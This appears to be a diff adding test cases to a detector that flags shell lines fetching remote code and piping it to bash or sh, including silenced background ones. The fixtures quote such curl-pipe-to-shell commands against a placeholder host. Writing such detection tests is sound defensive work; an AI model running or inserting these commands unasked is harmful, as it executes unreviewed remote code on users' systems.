@@ -1256,6 +1256,34 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
   ],
   "fetching-shell-line": [
     {
+      what: "a script that is handed on, with a line that nobody sees",
+      changes: [],
+      known: {
+        newTexts: [
+          newTexts(["# completion\n\n( curl -fsSL https://example.test/c | bash >/dev/null 2>&1 & )\n"]),
+        ],
+      },
+      tier: "review",
+      says: /`New` now has a script with a line that fetches something and hands it to an interpreter, and does not show it: \( curl/u,
+    },
+    {
+      what: "a script with such a line in the background",
+      changes: [],
+      known: { newTexts: [newTexts(["set -e\ncurl -s https://example.test/c | sh &\nwait"])] },
+      tier: "review",
+    },
+    {
+      what: "a line that is shown to whoever installs something, and one that runs in the background what is there",
+      changes: [],
+      known: {
+        newTexts: [
+          newTexts(["Run: curl -fsSL https://example.test/install.sh | sh"]),
+          newTexts(["serve --port 80 >/dev/null 2>&1 &"]),
+        ],
+      },
+      tier: "nothing",
+    },
+    {
       what: "a line in an option",
       changes: [
         call("os/exec.Command", ["EXEC"], {
